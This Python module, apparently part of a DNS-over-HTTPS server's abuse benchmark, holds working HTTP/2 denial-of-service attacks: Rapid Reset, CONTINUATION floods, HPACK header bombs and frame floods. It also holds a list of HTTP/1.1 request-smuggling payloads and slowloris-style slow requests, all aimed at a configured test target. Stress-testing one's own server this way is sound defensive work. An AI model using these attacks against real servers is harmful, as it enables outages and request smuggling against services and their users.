"""Attacks on DNS over HTTPS: floods of HTTP/2 frames, header bombs, smuggling shapes over HTTP/1.1.

Knows: RFC 9113's frames, RFC 7541's fields, RFC 9112's framing.  Does not know: the server, what is measured.
Each connection makes a real handshake and then sends as much of its kind as the server takes.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence

from benchmarks.abuse_attacks import CROWD, Seen, Target, http2_frame, query
from benchmarks.abuse_crowd import Connection, run_crowd
from benchmarks.abuse_tls import TlsConnection

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK, PADDED = 1, 4, 1, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MEDIA_TYPE = b"application/dns-message"
MESSAGE = query("hot1.example.org")
BURST = 64
"""Frames in one write."""
STREAMS_MANY = 1_000


def field(name: bytes, value: bytes) -> bytes:
    """A literal field without indexing, short name and value (RFC 7541 §6.2.2)."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


REQUEST = b"\x83\x87\x04" + bytes((10,)) + b"/dns-query\x01\x09localhost" + field(b"content-type", MEDIA_TYPE)
"""RFC 7541: `:method` POST, `:scheme` https, `:path`, `:authority`, and the media type."""


class Http2(TlsConnection):
    """HTTP/2 with its preface sent; `frames` is what it sends again and again."""

    protocol = "h2"
    settings = b""
    every_s = 0.0005

    def __init__(self, source: str, port: int, number: int) -> None:
        super().__init__(source, port, number)
        self.stream = -1
        self._has_begun = False

    def attack(self) -> float:
        if not self._has_begun:
            self._has_begun = True
            self.say(PREFACE + http2_frame(SETTINGS, 0, 0, self.settings))
        self.say(self.frames())
        return self.every_s

    def frames(self) -> bytes:
        """What comes next."""
        raise NotImplementedError

    def next_stream(self) -> int:
        """An odd number that was not used yet."""
        self.stream += 2
        return self.stream


class RapidReset(Http2):
    """Requests that are taken back at once (CVE-2023-44487): before their body comes, or with work begun."""

    def frames(self) -> bytes:
        sent = []
        for place in range(BURST):
            number = self.next_stream()
            sent.append(http2_frame(HEADERS, END_HEADERS, number, REQUEST))
            if place % 2:
                fresh = query(f"reset{number}.{id(self)}.example.com")
                sent.append(http2_frame(DATA, END_STREAM, number, fresh))
            sent.append(http2_frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
        return b"".join(sent)


class MadeReset(Http2):
    """Frames for which the server itself must reset its streams (CVE-2025-8671)."""

    def frames(self) -> bytes:
        sent = []
        for _ in range(BURST):
            number = self.next_stream()
            sent.append(http2_frame(HEADERS, END_HEADERS | END_STREAM, number, REQUEST))
            # RFC 9113 §6.9: an increment of 0 is a stream error.
            sent.append(http2_frame(WINDOW_UPDATE, 0, number, bytes(4)))
        return b"".join(sent)


class Continuation(Http2):
    """Headers that never end (CVE-2024-27316 and its kin)."""

    def frames(self) -> bytes:
        more = b"".join(field(b"x", b"y" * 100) for _ in range(100))
        if self.stream < 0:
            return http2_frame(HEADERS, 0, self.next_stream(), REQUEST)
        return http2_frame(CONTINUATION, 0, self.stream, more)


class SettingsFlood(Http2):
    """Settings, each to be acknowledged."""

    def frames(self) -> bytes:
        return http2_frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * BURST


class PingFlood(Http2):
    """Pings, each to be answered."""

    def frames(self) -> bytes:
        return http2_frame(PING, 0, 0, b"8 octets") * BURST


class WindowFlood(Http2):
    """Windows that grow by one octet."""

    def frames(self) -> bytes:
        return http2_frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * BURST


class PriorityFlood(Http2):
    """Priorities of streams that nobody opens; the frame means nothing any more (RFC 9113 §5.3.2)."""

    def frames(self) -> bytes:
        return b"".join(http2_frame(PRIORITY, 0, number * 2 + 1, b"\0\0\0\0\x10") for number in range(BURST))


class EmptyData(Http2):
    """One request whose body is frames without an octet."""

    def frames(self) -> bytes:
        if self.stream < 0:
            return http2_frame(HEADERS, END_HEADERS, self.next_stream(), REQUEST)
        return http2_frame(DATA, 0, self.stream, b"") * BURST


class HalfOpen(Http2):
    """A thousand requests of which none ends."""

    every_s = 0.05

    def frames(self) -> bytes:
        if self.stream > 2 * STREAMS_MANY:
            return http2_frame(PING, 0, 0, b"8 octets")
        return b"".join(http2_frame(HEADERS, END_HEADERS, self.next_stream(), REQUEST) for _ in range(BURST))


class HeaderBomb(Http2):
    """A long field in the dynamic table, named over and over in one octet each (RFC 7541 §6.1)."""

    def frames(self) -> bytes:
        number = self.next_stream()
        if number == 1:
            # With indexing: the first entry of the dynamic table, number 62.
            value = b"x" * 3_000
            long = b"\x40\x01x\x7f" + bytes(((3_000 - 127) & 127 | 128, (3_000 - 127) >> 7)) + value
            return http2_frame(HEADERS, END_HEADERS | END_STREAM, number, REQUEST + long)
        return http2_frame(HEADERS, END_HEADERS | END_STREAM, number, REQUEST + b"\xbe" * 8_000)


class Unread(Http2):
    """A hundred requests of big answers, with a window of 0."""

    settings = b"\0\4" + bytes(4)
    every_s = 0.05
    big = query("big1.example.org", 16)

    def frames(self) -> bytes:
        if self.stream > 200:
            return http2_frame(PING, 0, 0, b"8 octets")
        number = self.next_stream()
        return http2_frame(HEADERS, END_HEADERS, number, REQUEST) + http2_frame(
            DATA, END_STREAM, number, self.big
        )


class DripBody(Http2):
    """A request whose body comes an octet a second."""

    every_s = 1.0

    def frames(self) -> bytes:
        if self.stream < 0:
            return http2_frame(HEADERS, END_HEADERS, self.next_stream(), REQUEST)
        return http2_frame(DATA, 0, self.stream, b"\0")


SMUGGLING = (
    b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n",
    b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nabcde",
    b"Content-Length: +5\r\n\r\nabcde",
    b"Content-Length: 0x5\r\n\r\nabcde",
    b"Content-Length : 5\r\n\r\nabcde",
    b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"X: a\r\n b\r\nContent-Length: 0\r\n\r\n",
    b"X: a\nContent-Length: 5\n\nabcde",
    b"X\0: a\r\nContent-Length: 0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n5;" + b"x" * 20_000 + b"\r\nabcde\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nabcde\r\n0\r\n\r\n",
    b"Transfer-Encoding: chunked\r\n\r\n-5\r\nabcde\r\n0\r\n\r\n",
)
"""What two programs in a row may take for different requests (RFC 9112 §6.3, §11.2): behind a first line and
a host.  None of it is answered as if it were one query and another request."""

HTTP1_HEAD = b"POST /dns-query HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + MEDIA_TYPE + b"\r\n"


class Smuggling(TlsConnection):
    """Requests that are framed in two ways, each on a connection of its own."""

    protocol = "http/1.1"

    def attack(self) -> float:
        if getattr(self, "_has_sent", False):
            return 0.5
        self._has_sent = True
        self.say(HTTP1_HEAD + SMUGGLING[self.number % len(SMUGGLING)])
        return 0.5


class SlowHead(TlsConnection):
    """A request's head, a letter a second."""

    protocol = "http/1.1"
    message = HTTP1_HEAD + b"X-Slow: 1\r\n" * 1_000

    def attack(self) -> float:
        self._at = getattr(self, "_at", -1) + 1
        self.say(self.message[self._at : self._at + 1])
        return 1.0


class LongHead(TlsConnection):
    """A field without an end."""

    protocol = "http/1.1"
    message = HTTP1_HEAD + b"X: " + b"x" * 16_384

    def attack(self) -> float:
        self.say(self.message if not getattr(self, "_has_begun", False) else b"x" * 16_384)
        self._has_begun = True
        return 0.0005


class LongPath(TlsConnection):
    """A GET of 100 kB."""

    protocol = "http/1.1"
    message = b"GET /dns-query?dns=" + b"A" * 100_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"

    def attack(self) -> float:
        self.say(self.message)
        return 0.01


class LongBody(TlsConnection):
    """A body that says it has 4 GB."""

    protocol = "http/1.1"
    message = HTTP1_HEAD + b"Content-Length: 4294967295\r\n\r\n"

    def attack(self) -> float:
        self.say(self.message if not getattr(self, "_has_begun", False) else bytes(16_384))
        self._has_begun = True
        return 0.0005


def over_https(
    kind: Callable[[str, int, int], Connection], count: int, sources: Sequence[str] = CROWD
) -> Callable[[Target], Seen]:
    """So many connections of one kind to the port of DNS over HTTPS."""
    return lambda target: run_crowd(kind, target.https_port, count, sources, target.until)
